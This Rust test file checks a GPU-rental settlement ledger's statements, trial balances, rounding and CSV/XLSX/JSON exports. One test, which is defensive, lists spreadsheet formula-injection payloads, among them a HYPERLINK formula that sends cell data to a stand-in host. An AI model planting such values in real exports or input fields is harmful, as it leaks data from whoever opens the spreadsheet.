//! Reports: period splitting, DST, month end, rounding allocation, formats.
//! Expected amounts are hand-computed in comments.

use crate::common::*;
use chrono::{Datelike, NaiveDate};
use settlement::reports::{csv::to_csv, to_json, xlsx::to_xlsx};
use settlement::{
    AccountId, Config, EndReason, Input, LeaseId, LeaseStart, Ledger, Period, SettlementError,
};

const SH: &str = "Asia/Shanghai";

fn ledger() -> Ledger {
    Ledger::new(Config::default()).expect("default config is valid")
}

/// Deposit 100 on 1 Nov; lease 1 (H100, 1 GPU, 22.50) 30 Nov 23:30 -> 1 Dec 00:30;
/// lease 2 (same) 30 Nov 23:00 -> 1 Dec 00:00 exactly (Shanghai).
fn month_end_ledger() -> Ledger {
    let mut l = ledger();
    step(
        &mut l,
        ms("2026-11-01T10:00:00+08:00"),
        deposit("pay-1", BUYER, "100"),
    );
    step(
        &mut l,
        ms("2026-11-30T23:00:00+08:00"),
        lease(2, "H100-80G", "22.50", 1, ms("2026-11-30T23:00:00+08:00")),
    );
    step(
        &mut l,
        ms("2026-11-30T23:30:00+08:00"),
        lease(1, "H100-80G", "22.50", 1, ms("2026-11-30T23:30:00+08:00")),
    );
    step(
        &mut l,
        ms("2026-12-01T00:00:00+08:00"),
        end(2, ms("2026-12-01T00:00:00+08:00"), EndReason::Released),
    );
    step(
        &mut l,
        ms("2026-12-01T00:30:00+08:00"),
        end(1, ms("2026-12-01T00:30:00+08:00"), EndReason::Released),
    );
    l
}

#[test]
fn month_end_splits_a_lease_exactly_and_a_lease_ending_at_midnight_stays_in_november() {
    let l = month_end_ledger();
    let nov = Period::month(2026, 11, SH).expect("valid month");
    let dec = Period::month(2026, 12, SH).expect("valid month");
    let s = l.buyer_statement(BUYER, &nov).expect("accrued");
    assert_eq!(s.opening_balance, d("0.00"));
    assert_eq!(s.totals.deposits, d("100.00"));
    // lease 1: 1800 s x 22.50 / 3600 = 11.25; lease 2: 3600 s = 22.50
    let lines: Vec<_> = s
        .charges
        .iter()
        .map(|c| (c.lease, c.billed_seconds, c.amount))
        .collect();
    assert_eq!(
        lines,
        vec![
            (LeaseId(1), 1800, d("11.25")),
            (LeaseId(2), 3600, d("22.50"))
        ]
    );
    assert_eq!(s.charges[0].start_local, "2026-11-30T23:30:00.000+08:00");
    assert_eq!(s.charges[0].end_local, "2026-12-01T00:00:00.000+08:00");
    assert_eq!(s.totals.charges, d("33.75"));
    assert_eq!(s.closing_balance, d("66.25"));

    let s = l.buyer_statement(BUYER, &dec).expect("accrued");
    assert_eq!(s.opening_balance, d("66.25"));
    let lines: Vec<_> = s
        .charges
        .iter()
        .map(|c| (c.lease, c.billed_seconds, c.amount))
        .collect();
    assert_eq!(lines, vec![(LeaseId(1), 1800, d("11.25"))]);
    assert_eq!(s.closing_balance, d("55.00"));
}

#[test]
fn a_second_straddling_midnight_belongs_to_the_day_it_starts() {
    let mut l = ledger();
    step(
        &mut l,
        ms("2026-11-30T00:00:00+08:00"),
        deposit("p", BUYER, "10"),
    );
    let start = ms("2026-11-30T23:59:59.500+08:00");
    step(&mut l, start, lease(1, "H100-80G", "22.50", 1, start));
    // 1200 ms -> 2 started seconds: 23:59:59.5 (30 Nov) and 00:00:00.5 (1 Dec).
    step(
        &mut l,
        start + 1200,
        end(1, start + 1200, EndReason::Released),
    );
    let day = |d: u32| {
        Period::day(
            NaiveDate::from_ymd_opt(2026, if d == 30 { 11 } else { 12 }, d).expect("date"),
            SH,
        )
    };
    let a = l.lease_slices(&day(30).expect("period")).expect("accrued");
    let b = l.lease_slices(&day(1).expect("period")).expect("accrued");
    assert_eq!((a[0].billed_seconds, a[0].amount), (1, d("0.00625")));
    assert_eq!((b[0].billed_seconds, b[0].amount), (1, d("0.00625")));
}

#[test]
fn dst_days_in_berlin_are_23_and_25_hours() {
    let spring = Period::day(
        NaiveDate::from_ymd_opt(2026, 3, 29).expect("date"),
        "Europe/Berlin",
    )
    .expect("period");
    let autumn = Period::day(
        NaiveDate::from_ymd_opt(2026, 10, 25).expect("date"),
        "Europe/Berlin",
    )
    .expect("period");
    assert_eq!(spring.info().length_hours, d("23"));
    assert_eq!(autumn.info().length_hours, d("25"));
    assert_eq!(spring.info().to_local, "2026-03-30T00:00:00.000+02:00");

    let mut l = ledger();
    let t = ms("2026-03-01T00:00:00+01:00");
    step(&mut l, t, deposit("p", BUYER, "10000"));
    // One GPU at 3.60 CNY/GPU-hour running through both DST days.
    step(&mut l, t, lease(1, "A100-40G", "3.60", 1, t));
    let stop = ms("2026-11-01T00:00:00+01:00");
    step(&mut l, stop, end(1, stop, EndReason::Released));
    let s = l.buyer_statement(BUYER, &spring).expect("accrued");
    assert_eq!(
        (s.charges[0].billed_seconds, s.charges[0].amount),
        (82_800, d("82.80"))
    ); // 23 h x 3.60
    let s = l.buyer_statement(BUYER, &autumn).expect("accrued");
    assert_eq!(
        (s.charges[0].billed_seconds, s.charges[0].amount),
        (90_000, d("90.00"))
    ); // 25 h x 3.60
}

#[test]
fn printed_lines_add_up_by_allocation() {
    let mut l = ledger();
    let t = ms("2026-11-29T12:00:00+08:00");
    step(&mut l, t, deposit("p", BUYER, "10"));
    let day =
        Period::day(NaiveDate::from_ymd_opt(2026, 11, 30).expect("date"), SH).expect("period");
    for id in 1..=3 {
        let s = day.from_ms + (id as i64) * 10_000;
        step(&mut l, s, lease(id, "H100-80G", "22.50", 1, s));
        step(&mut l, s + 1000, end(id, s + 1000, EndReason::Released));
    }
    let s = l.buyer_statement(BUYER, &day).expect("accrued");
    // Each 1-second line is exactly 0.00625 (prints 0.01 alone). Largest remainder (issue
    // 17): the total is round(0.01875) = 0.02, so one of the three tied lines (the first)
    // gives back its fen. Closing 9.98125 prints 9.98 = 10.00 - 0.02: no rounding line.
    let amounts: Vec<_> = s.charges.iter().map(|c| c.amount).collect();
    assert_eq!(amounts, vec![d("0.00"), d("0.01"), d("0.01")]);
    assert_eq!(s.totals.charges, d("0.02"));
    assert_eq!(s.totals.rounding, d("0.00"));
    assert_eq!(s.opening_balance, d("10.00"));
    assert_eq!(s.closing_balance, d("9.98"));
}

#[test]
fn fee_midpoint_rounding_on_supplier_statement_and_platform_summary() {
    let mut l = ledger();
    let t = ms("2026-11-30T10:00:00+08:00");
    step(&mut l, t, deposit("p", BUYER, "100"));
    step(&mut l, t, lease(1, "H100-80G", "22.50", 1, t));
    // 1050 s x 22.50 / 3600 = 6.5625; fee 8 % = 0.525 exactly.
    step(
        &mut l,
        t + 1_050_000,
        end(1, t + 1_050_000, EndReason::Released),
    );
    let day =
        Period::day(NaiveDate::from_ymd_opt(2026, 11, 30).expect("date"), SH).expect("period");
    let s = l.supplier_statement(SUPPLIER, &day).expect("accrued");
    // Issue 17: gross 6.5625 -> 6.56 and fee 0.525 -> 0.53 (half away from zero), as on the
    // platform summary; net = gross - fee = 6.03. The payable 6.0375 prints 6.04, so the
    // statement's rounding line is +0.01 (it used to hide it in the fee, printing 0.52).
    let e = &s.earnings[0];
    assert_eq!((e.gross, e.fee, e.net), (d("6.56"), d("0.53"), d("6.03")));
    assert_eq!(s.closing_payable, d("6.04"));
    assert_eq!(s.totals.net, d("6.03"));
    assert_eq!(s.totals.rounding, d("0.01"));
    // The platform summary prints the same fee: 0.525 -> 0.53.
    let p = l.platform_summary(&day).expect("accrued");
    assert_eq!((p.total.gmv, p.total.fee_revenue), (d("6.56"), d("0.53")));
}

#[test]
fn insufficient_funds_show_as_unpaid_lines() {
    let mut l = ledger();
    let t = ms("2026-11-30T10:00:00+08:00");
    step(&mut l, t, deposit("p", BUYER, "5.00"));
    step(&mut l, t, lease(1, "H100-80G", "22.50", 8, t)); // 0.05 CNY/s
    step(
        &mut l,
        t + 120_000,
        Input::Accrue {
            now_ms: t + 120_000,
        },
    );
    step(
        &mut l,
        t + 121_000,
        end(1, t + 121_000, EndReason::InsufficientFunds),
    );
    let day =
        Period::day(NaiveDate::from_ymd_opt(2026, 11, 30).expect("date"), SH).expect("period");
    let s = l.buyer_statement(BUYER, &day).expect("accrued");
    // 121 s x 0.05 = 6.05 billed, 5.00 collected, 1.05 unpaid.
    assert_eq!(s.totals.deposits, d("5.00"));
    assert_eq!(s.totals.charges, d("6.05"));
    assert_eq!(s.totals.unpaid, d("1.05"));
    assert_eq!(s.closing_balance, d("0.00"));
    let p = l.platform_summary(&day).expect("accrued");
    assert_eq!(
        (p.total.gmv, p.total.unpaid, p.total.fee_revenue),
        (d("6.05"), d("1.05"), d("0.40"))
    );
}

#[test]
fn sla_credit_on_both_statements() {
    let mut l = ledger();
    let t = ms("2026-11-30T10:00:00+08:00");
    step(&mut l, t, deposit("p", BUYER, "1000"));
    step(&mut l, t, lease(1, "H100-80G", "22.50", 8, t));
    step(
        &mut l,
        t + 3_600_000,
        end(1, t + 3_600_000, EndReason::NodeFailure),
    ); // 180.00
    step(
        &mut l,
        t + 3_700_000,
        Input::Failover {
            lease: LeaseId(1),
            replacement_start_ms: Some(t + 3_690_000),
            replacement_price: None,
        },
    ); // 45.00
    let day =
        Period::day(NaiveDate::from_ymd_opt(2026, 11, 30).expect("date"), SH).expect("period");
    let b = l.buyer_statement(BUYER, &day).expect("accrued");
    assert_eq!(b.totals.credits, d("45.00"));
    assert_eq!(b.closing_balance, d("865.00"));
    let s = l.supplier_statement(SUPPLIER, &day).expect("accrued");
    assert_eq!(
        (s.totals.gross, s.totals.fee, s.totals.sla_deductions),
        (d("180.00"), d("14.40"), d("45.00"))
    );
    assert_eq!(s.closing_payable, d("120.60"));
    let p = l.platform_summary(&day).expect("accrued");
    assert_eq!(p.total.sla_credits, d("45.00"));
}

#[test]
fn trial_balance_lists_every_account_and_balances() {
    let mut l = ledger();
    let t = ms("2026-11-30T10:00:00+08:00");
    step(&mut l, t, deposit("p", BUYER, "100"));
    step(&mut l, t, lease(1, "H100-80G", "22.50", 8, t));
    step(
        &mut l,
        t + 600_000,
        end(1, t + 600_000, EndReason::Released),
    ); // 30.00
    let day =
        Period::day(NaiveDate::from_ymd_opt(2026, 11, 30).expect("date"), SH).expect("period");
    let tb = l.trial_balance(&day).expect("accrued");
    assert!(tb.balanced());
    let rows: Vec<_> = tb
        .rows
        .iter()
        .map(|r| (r.account.as_str(), r.debits, r.credits, r.closing))
        .collect();
    assert_eq!(
        rows,
        vec![
            ("external_cash", d("100.00"), d("0.00"), d("-100.00")),
            ("platform_fee", d("0.00"), d("2.40"), d("2.40")),
            ("sla_credits", d("0.00"), d("0.00"), d("0.00")),
            ("buyer:1", d("30.00"), d("100.00"), d("70.00")),
            ("supplier:100", d("2.40"), d("30.00"), d("27.60")),
        ]
    );
    assert_eq!(
        (tb.totals.opening, tb.totals.closing),
        (d("0.00"), d("0.00"))
    );
    assert_eq!(tb.totals.debits, tb.totals.credits);
}

#[test]
fn reports_refuse_periods_not_yet_accrued() {
    let mut l = ledger();
    let t = ms("2026-11-30T10:00:00+08:00");
    step(&mut l, t, deposit("p", BUYER, "100"));
    step(&mut l, t, lease(1, "H100-80G", "22.50", 1, t));
    let p = Period::new(t, t + 60_000, SH).expect("period");
    assert!(matches!(
        l.buyer_statement(BUYER, &p),
        Err(SettlementError::NotAccrued { .. })
    ));
    step(&mut l, t + 60_000, Input::Accrue { now_ms: t + 60_000 });
    let s = l.buyer_statement(BUYER, &p).expect("accrued now");
    // 60 s x 22.50 / 3600 = 0.375, printed 0.38 (issue 17: the same on every report). The
    // deposit of 100 is in the period; the balance 99.625 prints 99.63 (the rounded true
    // balance), so the rounding line is +0.01: 0.00 + 100.00 - 0.38 + 0.01 = 99.63.
    assert_eq!(s.totals.deposits, d("100.00"));
    assert_eq!(s.charges[0].amount, d("0.38"));
    assert_eq!(s.totals.rounding, d("0.01"));
    assert_eq!(s.closing_balance, d("99.63"));
    assert!(matches!(
        Period::new(t, t, SH),
        Err(SettlementError::InvalidPeriod { .. })
    ));
    assert!(matches!(
        Period::new(t, t + 1, "Mars/Olympus"),
        Err(SettlementError::UnknownTimeZone(_))
    ));
    assert!(matches!(
        Period::month(2026, 13, SH),
        Err(SettlementError::InvalidLocalTime(_))
    ));
}

#[test]
fn platform_summary_by_sku_region_and_utilisation() {
    let mut l = ledger();
    let day =
        Period::day(NaiveDate::from_ymd_opt(2026, 11, 30).expect("date"), SH).expect("period");
    let t = day.from_ms;
    step(&mut l, t, deposit("p", BUYER, "10000"));
    step(
        &mut l,
        t,
        Input::ListedCapacity {
            supplier: SUPPLIER,
            sku: "H100-80G".into(),
            region: "cn-east-2".into(),
            gpus: 8,
            from_ms: t - 86_400_000,
            to_ms: t + 2 * 86_400_000,
        },
    );
    step(&mut l, t, lease(1, "H100-80G", "22.50", 8, t));
    let other = Input::LeaseStarted(LeaseStart {
        lease: LeaseId(2),
        buyer: BUYER,
        supplier: AccountId(101),
        sku: "RTX4090-24G".into(),
        region: "cn-north-1".into(),
        gpus: 2,
        price_per_gpu_hour: d("1.98"),
        start_ms: t,
        sla: None,
    });
    step(&mut l, t, other);
    step(
        &mut l,
        t + 3_600_000,
        end(2, t + 3_600_000, EndReason::Released),
    ); // 2 GPU-h, 3.96
    step(
        &mut l,
        t + 6 * 3_600_000,
        end(1, t + 6 * 3_600_000, EndReason::Released),
    ); // 48 GPU-h, 1080.00
    let p = l.platform_summary(&day).expect("accrued");
    let skus: Vec<_> = p
        .by_sku
        .iter()
        .map(|r| (r.key.as_str(), r.gpu_hours, r.gmv, r.utilisation))
        .collect();
    assert_eq!(
        skus,
        vec![
            ("H100-80G", d("48.0000"), d("1080.00"), Some(d("0.2500"))), // 48 / (8 x 24)
            ("RTX4090-24G", d("2.0000"), d("3.96"), None),
        ]
    );
    let regions: Vec<_> = p.by_region.iter().map(|r| r.key.as_str()).collect();
    assert_eq!(regions, vec!["cn-east-2", "cn-north-1"]);
    assert_eq!(
        (p.total.gmv, p.total.fee_revenue, p.total.gpu_hours),
        (d("1083.96"), d("86.72"), d("50.0000"))
    );
    assert_eq!(p.total.listed_gpu_hours, d("192.0000"));
}

#[test]
fn csv_is_byte_identical_with_a_stable_header() {
    let a = month_end_ledger();
    let b = month_end_ledger();
    let nov = Period::month(2026, 11, SH).expect("valid month");
    let csv_a = to_csv(&a.buyer_statement(BUYER, &nov).expect("accrued").table()).expect("csv");
    let csv_b = to_csv(&b.buyer_statement(BUYER, &nov).expect("accrued").table()).expect("csv");
    assert_eq!(csv_a, csv_b);
    let text = String::from_utf8(csv_a).expect("utf-8");
    let mut lines = text.lines();
    assert_eq!(
        lines.next(),
        Some(
            "section,transfer_id,lease_id,reference,sku,region,gpus,start,end,billed_seconds,unit_price_cny_per_gpu_hour,amount_cny,ready,end_reason"
        )
    );
    // Issue 15 appended `ready` and `end_reason`: the issue 3 columns keep their positions.
    // Lease 1 runs past November: no end reason yet in November's statement.
    assert!(text.contains(
        "\ncharge,,1,,H100-80G,cn-east-2,1,2026-11-30T23:30:00.000+08:00,2026-12-01T00:00:00.000+08:00,1800,22.50,11.25,2026-11-30T23:30:00.000+08:00,\n"
    ));
    // Lease 2 ended exactly at the period end: its reason shows.
    assert!(text.contains(
        "\ncharge,,2,,H100-80G,cn-east-2,1,2026-11-30T23:00:00.000+08:00,2026-12-01T00:00:00.000+08:00,3600,22.50,22.50,2026-11-30T23:00:00.000+08:00,released\n"
    ));
    assert!(text.ends_with("closing_balance,,,,,,,,,,,66.25,,\n"));
    for table in [
        a.supplier_statement(SUPPLIER, &nov)
            .expect("accrued")
            .table(),
        a.platform_summary(&nov).expect("accrued").table(),
        a.trial_balance(&nov).expect("accrued").table(),
    ] {
        let x = to_csv(&table).expect("csv");
        assert!(!x.is_empty());
        let first = String::from_utf8(x).expect("utf-8");
        assert_eq!(
            first.lines().next().map(|h| h.split(',').count()),
            Some(table.header.len())
        );
    }
}

#[test]
fn xlsx_has_one_sheet_per_report_and_is_deterministic() {
    let build = || {
        let l = month_end_ledger();
        let nov = Period::month(2026, 11, SH).expect("valid month");
        to_xlsx(&[
            l.buyer_statement(BUYER, &nov).expect("accrued").table(),
            l.supplier_statement(SUPPLIER, &nov)
                .expect("accrued")
                .table(),
            l.platform_summary(&nov).expect("accrued").table(),
            l.trial_balance(&nov).expect("accrued").table(),
        ])
        .expect("xlsx")
    };
    let a = build();
    assert_eq!(&a[..2], b"PK");
    assert_eq!(a, build());
}

#[test]
fn json_prints_amounts_as_decimal_strings() {
    let l = month_end_ledger();
    let nov = Period::month(2026, 11, SH).expect("valid month");
    let json = String::from_utf8(
        to_json(&l.buyer_statement(BUYER, &nov).expect("accrued")).expect("json"),
    )
    .expect("utf-8");
    assert!(json.contains("\"closing_balance\": \"66.25\""));
    assert!(json.contains("\"time_zone\": \"Asia/Shanghai\""));
}

#[test]
fn local_days_tile_the_year_and_last_23_to_25_hours() {
    // Zones with DST at 02:00 (Berlin, New York), at midnight (Santiago) and
    // with a 30-minute shift (Lord Howe).
    for zone in [
        "Europe/Berlin",
        "America/New_York",
        "America/Santiago",
        "Australia/Lord_Howe",
        SH,
    ] {
        let mut day = NaiveDate::from_ymd_opt(2026, 1, 1).expect("date");
        let mut prev_to = None;
        let mut lengths = std::collections::BTreeSet::new();
        while day.year_ce().1 == 2026 {
            let p = Period::day(day, zone).expect("every local day exists");
            if let Some(t) = prev_to {
                assert_eq!(p.from_ms, t, "{zone} {day}: days must tile");
            }
            prev_to = Some(p.to_ms);
            lengths.insert(p.info().length_hours.to_string());
            day = day.succ_opt().expect("next day");
        }
        let expected: Vec<&str> = match zone {
            "Asia/Shanghai" => vec!["24"],
            "Australia/Lord_Howe" => vec!["23.5", "24", "24.5"],
            _ => vec!["23", "24", "25"],
        };
        assert_eq!(
            lengths.iter().map(String::as_str).collect::<Vec<_>>(),
            expected,
            "{zone}"
        );
    }
}

#[test]
fn adjustments_and_payouts_on_statements() {
    let mut l = ledger();
    let t = ms("2026-11-30T10:00:00+08:00");
    step(&mut l, t, deposit("p", BUYER, "50"));
    step(&mut l, t, lease(1, "H100-80G", "22.50", 8, t));
    step(
        &mut l,
        t + 600_000,
        end(1, t + 600_000, EndReason::Released),
    ); // 30.00; payable 27.60
    step(
        &mut l,
        t + 700_000,
        Input::Adjustment {
            key: "T-1".into(),
            debit: settlement::Account::Buyer(BUYER),
            credit: settlement::Account::PlatformFee,
            amount: d("2.50"),
            memo: "storage".into(),
        },
    );
    step(
        &mut l,
        t + 800_000,
        Input::Adjustment {
            key: "T-2".into(),
            debit: settlement::Account::PlatformFee,
            credit: settlement::Account::Supplier(SUPPLIER),
            amount: d("1.00"),
            memo: "bonus".into(),
        },
    );
    step(
        &mut l,
        t + 900_000,
        Input::Payout {
            key: "bank-1".into(),
            supplier: SUPPLIER,
            amount: d("20"),
        },
    );
    let day =
        Period::day(NaiveDate::from_ymd_opt(2026, 11, 30).expect("date"), SH).expect("period");
    let b = l.buyer_statement(BUYER, &day).expect("accrued");
    assert_eq!(b.adjustments.len(), 1);
    assert_eq!(b.adjustments[0].amount, d("-2.50"));
    assert_eq!(b.adjustments[0].reference, "T-1: storage");
    assert_eq!(b.closing_balance, d("17.50")); // 50 - 30 - 2.50
    let s = l.supplier_statement(SUPPLIER, &day).expect("accrued");
    assert_eq!(
        (s.totals.adjustments, s.totals.payouts),
        (d("1.00"), d("20.00"))
    );
    assert_eq!(s.closing_payable, d("8.60")); // 27.60 + 1.00 - 20.00
    let tb = l.trial_balance(&day).expect("accrued");
    assert!(tb.balanced());
    let fee = tb
        .rows
        .iter()
        .find(|r| r.account == "platform_fee")
        .map(|r| r.closing);
    assert_eq!(fee, Some(d("3.90"))); // 2.40 + 2.50 - 1.00
}

#[test]
fn a_late_node_failure_report_restates_the_refunded_seconds() {
    let mut l = ledger();
    let t = ms("2026-11-30T23:59:00+08:00");
    step(&mut l, t, deposit("p", BUYER, "100"));
    step(&mut l, t, lease(1, "H100-80G", "22.50", 8, t)); // 0.05 CNY/s
    step(
        &mut l,
        t + 120_000,
        Input::Accrue {
            now_ms: t + 120_000,
        },
    ); // 6.00 through 00:01
    // The first minute of 1 December (the lease is accrued through it).
    let dec1 = Period::new(ms("2026-12-01T00:00:00+08:00"), t + 120_000, SH).expect("period");
    assert_eq!(
        l.buyer_statement(BUYER, &dec1)
            .expect("accrued")
            .totals
            .charges,
        d("3.00")
    );
    // Last heartbeat was 23:59:30: 30 s billed in total, nothing on 1 December.
    step(
        &mut l,
        t + 130_000,
        end(1, t + 30_000, EndReason::NodeFailure),
    );
    let s = l.buyer_statement(BUYER, &dec1).expect("accrued");
    assert!(s.charges.is_empty());
    assert_eq!(s.opening_balance, d("98.50"));
    assert_eq!(l.balance(settlement::Account::Buyer(BUYER)), d("98.50"));
}

#[test]
fn listed_capacity_must_be_a_forward_interval() {
    let mut l = ledger();
    let t = ms("2026-11-30T10:00:00+08:00");
    let bad = Input::ListedCapacity {
        supplier: SUPPLIER,
        sku: "H100-80G".into(),
        region: "cn-east-2".into(),
        gpus: 8,
        from_ms: t,
        to_ms: t - 1,
    };
    assert!(matches!(
        l.apply(t, &bad),
        Err(SettlementError::InvalidPeriod { .. })
    ));
}

#[test]
fn thirty_day_lease_splits_into_thirty_equal_days() {
    let mut l = ledger();
    let start = ms("2026-11-01T00:00:00+08:00");
    let stop = ms("2026-12-01T00:00:00+08:00");
    step(&mut l, start, deposit("p", BUYER, "200000"));
    step(&mut l, start, lease(1, "H100-80G", "22.50", 8, start)); // 180 CNY/h
    step(&mut l, stop, end(1, stop, EndReason::Expired));
    let mut seconds = 0;
    for day in 1..=30 {
        let p =
            Period::day(NaiveDate::from_ymd_opt(2026, 11, day).expect("date"), SH).expect("period");
        let s = l.buyer_statement(BUYER, &p).expect("accrued");
        assert_eq!(s.charges.len(), 1);
        assert_eq!(
            (s.charges[0].billed_seconds, s.charges[0].amount),
            (86_400, d("4320.00"))
        ); // 24 h x 180
        seconds += s.charges[0].billed_seconds;
    }
    assert_eq!(seconds, 2_592_000);
    let nov = l
        .buyer_statement(BUYER, &Period::month(2026, 11, SH).expect("month"))
        .expect("accrued");
    assert_eq!(
        (nov.totals.charges, nov.closing_balance),
        (d("129600.00"), d("70400.00"))
    );
    let dec = l
        .buyer_statement(BUYER, &Period::month(2026, 12, SH).expect("month"))
        .expect("accrued");
    assert!(dec.charges.is_empty());
}

/// Issue 17's defect: deposit 100, one GPU at 12 CNY/h for 1 s, the buyer statement for that
/// hour printed a charge of `-0.00` (0.00333… rounds to zero, then was negated).
#[test]
fn a_one_second_charge_prints_zero_not_negative_zero() {
    let mut l = ledger();
    let t0 = ms("2026-11-10T10:00:00+08:00");
    step(&mut l, t0, deposit("pay-1", BUYER, "100"));
    step(&mut l, t0, lease(1, "RTX4090-24G", "12", 1, t0));
    step(&mut l, t0 + 1_000, end(1, t0 + 1_000, EndReason::Released));
    step(
        &mut l,
        t0 + 3_600_000,
        Input::Accrue {
            now_ms: t0 + 3_600_000,
        },
    );
    let hour = Period::new(t0, t0 + 3_600_000, SH).expect("period");
    let s = l.buyer_statement(BUYER, &hour).expect("accrued");
    assert_eq!(s.charges.len(), 1);
    assert_eq!(s.charges[0].billed_seconds, 1);
    assert_eq!(s.charges[0].amount.to_string(), "0.00");
    let csv = String::from_utf8(to_csv(&s.table()).expect("csv")).expect("utf8");
    assert!(!csv.contains("-0.00"), "{csv}");
    let json = String::from_utf8(to_json(&s).expect("json")).expect("utf8");
    assert!(!json.contains("-0.00"), "{json}");
}

/// Issue 25: a text cell that begins with `=`, `+`, `-`, `@`, tab or CR is a formula to the
/// spreadsheet finance opens the export in (a client-chosen `X-Request-Id`
/// `=HYPERLINK(…)` in the audit trail, a legal name in an invoice). CSV and XLSX write such a
/// cell with a leading `'`; other text, and numbers (a negative amount is a number cell, not
/// text), are unchanged; JSON is not a spreadsheet and keeps the text.
#[test]
fn text_cells_that_a_spreadsheet_reads_as_formulas_are_neutralised_in_csv_and_xlsx() {
    use settlement::reports::table::{Cell, FORMULA_PREFIXES, Table, formula_safe};
    let evil = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\tcmd",
        "\rcmd",
    ];
    assert_eq!(evil.len(), FORMULA_PREFIXES.len());
    for (e, p) in evil.iter().zip(FORMULA_PREFIXES) {
        assert!(e.starts_with(p), "{e:?} covers {p:?}");
        assert_eq!(formula_safe(e), format!("'{e}"));
    }
    for plain in ["北京算力科技有限公司", "req-1=2", "a-b", "", "'=already"] {
        assert_eq!(formula_safe(plain), plain, "{plain:?} is left as it is");
    }
    let mut rows: Vec<Vec<Cell>> = evil
        .iter()
        .map(|e| vec![Cell::Text(e.to_string()), Cell::Money(d("-12.30"))])
        .collect();
    rows.push(vec![Cell::Text("plain".into()), Cell::Number(d("-0.5"))]);
    let table = Table {
        name: "audit".into(),
        header: vec!["request_id", "amount_cny"],
        rows,
    };
    let csv = String::from_utf8(to_csv(&table).expect("csv")).expect("utf-8");
    let mut reader = ::csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let read: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.expect("record").iter().map(str::to_string).collect())
        .collect();
    for (row, e) in read.iter().zip(evil) {
        assert_eq!(row[0], format!("'{e}"), "CSV text cell {e:?}");
        assert_eq!(row[1], "-12.30", "a negative amount stays a number");
    }
    assert_eq!(read[evil.len()], vec!["plain", "-0.5"]);

    let xlsx = to_xlsx(&[table]).expect("xlsx");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).expect("xlsx is a zip");
    let mut strings = String::new();
    std::io::Read::read_to_string(
        &mut zip.by_name("xl/sharedStrings.xml").expect("shared strings"),
        &mut strings,
    )
    .expect("utf-8");
    for e in ["=HYPERLINK(", "+1+1", "-2+3", "@SUM(A1:A9)"] {
        assert!(
            strings.contains(&format!("'{e}")),
            "XLSX holds '{e}: {strings}"
        );
        assert!(
            !strings.contains(&format!(">{e}")),
            "XLSX holds {e} bare: {strings}"
        );
    }
    assert!(strings.contains(">plain<"), "{strings}");
}

/// Issue 25: a trial-balance row printed opening 0.00, credits 0.01, closing 0.00 while the
/// check (on exact values) said true. A 1 s lease at 18.00/GPU-hour charges 0.005 CNY; the
/// supplier is credited 0.005 (prints 0.01) and debited the 8 % fee 0.0004 (prints 0.00),
/// closing 0.0046 (prints 0.00): 0.00 + 0.01 − 0.00 ≠ 0.00, so the row's rounding column
/// prints −0.01. The buyer: 0.00 + 100.00 − 0.01 (0.005) = 99.99 but 99.995 prints 100.00,
/// rounding +0.01.
#[test]
fn trial_balance_rows_add_up_as_printed_with_a_rounding_column() {
    let mut l = ledger();
    let t = ms("2026-11-30T10:00:00+08:00");
    step(&mut l, t, deposit("p", BUYER, "100"));
    step(&mut l, t, lease(1, "H100-80G", "18.00", 1, t));
    step(&mut l, t + 1_000, end(1, t + 1_000, EndReason::Released));
    let day =
        Period::day(NaiveDate::from_ymd_opt(2026, 11, 30).expect("date"), SH).expect("period");
    let tb = l.trial_balance(&day).expect("accrued");
    assert!(tb.balanced());
    let row = |a: &str| {
        tb.rows
            .iter()
            .find(|r| r.account == a)
            .map(|r| (r.opening, r.debits, r.credits, r.closing, r.rounding))
            .expect("row")
    };
    assert_eq!(
        row("supplier:100"),
        (d("0.00"), d("0.00"), d("0.01"), d("0.00"), d("-0.01"))
    );
    assert_eq!(
        row("buyer:1"),
        (d("0.00"), d("0.01"), d("100.00"), d("100.00"), d("0.01"))
    );
    for r in tb.rows.iter().chain([&tb.rounding, &tb.totals]) {
        assert_eq!(
            r.opening + r.credits - r.debits + r.rounding,
            r.closing,
            "{}",
            r.account
        );
    }
    // The column adds up like the others: rows + rounding row = total (0.00 here).
    let col: rust_decimal::Decimal = tb
        .rows
        .iter()
        .map(|r| r.rounding)
        .sum::<rust_decimal::Decimal>()
        + tb.rounding.rounding;
    assert_eq!(col, tb.totals.rounding);
    assert_eq!(tb.totals.rounding, d("0.00"));
    let csv = String::from_utf8(to_csv(&tb.table()).expect("csv")).expect("utf-8");
    assert!(
        csv.lines()
            .next()
            .expect("header")
            .ends_with("closing_cny,rounding_cny,check_value_cny,check_ok"),
        "{csv}"
    );
    assert!(
        csv.contains("account,supplier:100,0.00,0.00,0.01,0.00,-0.01,"),
        "{csv}"
    );
}
